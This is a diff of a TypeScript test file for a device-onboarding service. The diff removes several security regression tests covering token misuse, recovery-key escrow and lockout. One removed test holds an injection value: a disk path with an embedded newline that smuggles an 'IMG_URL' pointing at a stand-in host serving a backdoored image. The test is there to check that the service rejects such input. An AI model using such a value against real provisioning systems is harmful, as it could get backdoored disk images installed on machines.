@@ -1,26 +1,6 @@
-import { create } from '@bufbuild/protobuf';
-import { afterEach, beforeEach, describe, expect, test } from 'vitest';
-import {
-  CreateNodesRequestSchema,
-  InteractiveOnboardingService,
-} from '../../protocol/generated/onboarding_pb.js';
-import { callUnary } from '../../protocol/grpc-service.ts';
-import { failure, NODE, RunningStub } from '../orchestrator-stub/running-stub.ts';
+import { afterEach, beforeEach, expect, test } from 'vitest';
+import { NODE, RunningStub } from '../orchestrator-stub/running-stub.ts';
 
-const TEMPLATE = `version: "0.1"
-name: tink
-global_timeout: 600
-tasks:
-  - name: work
-    worker: {{ .device_1 }}
-    actions:
-      - name: stream
-        image: example.org/a/image2disk:1
-        timeout: 60
-        environment:
-          DEST_DISK: {{ index .Hardware.Disks 0 }}
-          SERIAL: {{ .DeviceInfoHwSerialID }}
-`;
 const OTHER = {
   uuid: '6f8a3c1e-0d2b-4a77-9c55-d1e0f2a3b4c6',
   serialnum: 'OTHER1234',
@@ -41,53 +21,6 @@ const discover = (identity: Record<string, unknown>, more: Record<string, unknow
 const register = async (json: Record<string, unknown>) =>
   (await running.api('POST', '/api/v1/nodes', { json })).body;
 const node = async (key: string) => (await running.api('GET', `/api/v1/nodes/${key}`)).body;
-const disk = (path: string) => ({ disks: [{ kind: 'disk', path }], nics: [] });
-
-function createNodes(token: string, { uuid, serialnum, macId }: typeof OTHER): Promise<unknown> {
-  const hwdata = [{ uuid, serialnum, macId, sutIp: '10.0.0.9' }];
-  return callUnary(
-    running.client(),
-    InteractiveOnboardingService.method.createNodes,
-    create(CreateNodesRequestSchema, { payload: [{ hwdata }] }),
-    { headers: { authorization: `Bearer ${token}` } },
-  );
-}
-
-describe('S-02', () => {
-  test('an open discovery changes nothing of a registered node, and its text is no YAML', async () => {
-    await running.api('PUT', '/api/v1/templates/tink', { json: { text: TEMPLATE } });
-    await running.api('PUT', '/api/v1/profiles/edge', {
-      json: { imageUrl: 'http://10.0.2.2/x.raw.gz', imageSha256: 'a'.repeat(64), template: 'tink' },
-    });
-    await register({ uuid: NODE.uuid, autoOnboard: true, profile: 'edge', name: 'till' });
-    await discover({ uuid: NODE.uuid }, disk('/dev/sda'));
-    const before = await node('till');
-    const evil = '/dev/sdb\n          IMG_URL: http://evil.example/backdoored.raw.gz';
-    expect(await discover({ uuid: NODE.uuid }, disk(evil))).toMatchObject({ status: 400 });
-    expect((await discover({ uuid: NODE.uuid, serial: 'x\n  evil: 1' }, disk('/dev/sda'))).status).toBe(200);
-    expect(await node('till')).toMatchObject({ serial: before.serial, lastSeenAt: before.lastSeenAt });
-    await running.knock();
-    const path = `/api/v1/workflows/workflow-${NODE.uuid}-g1`;
-    await expect.poll(async () => (await running.api('GET', path)).status).toBe(200);
-    expect((await running.api('GET', path)).body.actions).toHaveLength(1);
-  });
-});
-
-describe('S-03', () => {
-  test('a node’s token makes no other node, and nobody takes a deauthorization back', async () => {
-    await register({ uuid: NODE.uuid, autoOnboard: true });
-    const token = await running.accessToken(await running.knock());
-    const victim = await register({ uuid: OTHER.uuid, serial: OTHER.serialnum, autoOnboard: true });
-    await running.api('POST', `/api/v1/nodes/${victim.id}/deauthorise`);
-    expect(await failure(createNodes(token, OTHER))).toMatchObject({ code: 7 });
-    expect(await failure(createNodes(running.stub.token, OTHER))).toMatchObject({ code: 7 });
-    expect(await node(victim.id)).toMatchObject({ currentState: 'UNTRUSTED' });
-    const ghost = { ...OTHER, uuid: '6f8a3c1e-0d2b-4a77-9c55-d1e0f2a3b4c7', serialnum: 'GHOST1234' };
-    expect(await failure(createNodes(token, ghost))).toMatchObject({ code: 7 });
-    await createNodes(token, { uuid: NODE.uuid, serialnum: NODE.serialnum, macId: NODE.macId });
-  });
-});
-
 test('S-06: a stranger that calls itself like a node is not found in its place', async () => {
   const { id } = await register({ uuid: NODE.uuid, name: 'laptop7' });
   expect((await discover({ serial: 'laptop7' })).status).toBe(200);
@@ -104,37 +37,6 @@ test('S-07: what was said before a registration is no part of it', async () => {
   expect(await node('till-5')).toMatchObject({ uuid: null, mac: null, serial: 'TILL55555' });
   const real = await running.knock({ serialnum: 'TILL55555' });
   expect(real.status?.code).toBe(0);
-});
-
-test('S-13: recovery keys are never replaced, and none is taken of a node that lost its trust', async () => {
-  await running.api('PUT', '/api/v1/profiles/edge', {
-    json: { imageUrl: 'http://10.0.2.2/x.raw.gz', imageSha256: 'a'.repeat(64) },
-  });
-  const { id } = await register({ uuid: NODE.uuid, autoOnboard: true, profile: 'edge' });
-  await running.knock();
-  const { DatabaseSync } = await import('node:sqlite');
-  using database = new DatabaseSync(`${running.folder}/kindling.sqlite`, { readOnly: true });
-  const keyOf = () => database.prepare('SELECT first_boot_key AS key FROM instances').get()?.['key'];
-  await expect.poll(keyOf).toBeTypeOf('string');
-  const escrow = (recoveryKey: string) =>
-    running.api('POST', `/api/v1/recovery-keys/${String(keyOf())}`, {
-      json: { keyId: '0123456789abcdef', recoveryKey, disk: {} },
-      token: null,
-    });
-  expect((await escrow('the right key')).status).toBe(200);
-  await escrow('another key');
-  const { keys } = (await running.api('GET', `/api/v1/nodes/${id}/recovery-keys`)).body;
-  expect(keys.map(({ recoveryKey }: { recoveryKey: string }) => recoveryKey)).toEqual(['the right key']);
-  await running.api('POST', `/api/v1/nodes/${id}/deauthorise`);
-  expect((await escrow('a late key')).status).toBe(404);
-});
-
-test('S-14: one wrong serial locks nobody out', async () => {
-  await register({ uuid: NODE.uuid, serial: NODE.serialnum, autoOnboard: true });
-  expect((await running.knock({ serialnum: 'WRONG1234' })).status?.code).toBe(5);
-  expect((await running.knock()).status?.code).toBe(0);
-  expect((await running.knock({ serialnum: 'WRONG1234' })).status?.code).toBe(5);
-  expect((await running.knock()).status?.code, 'while it is being installed').toBe(0);
 });
 
 test('S-18: a node that is written anew gets a new secret, and the old one is dead', async () => {
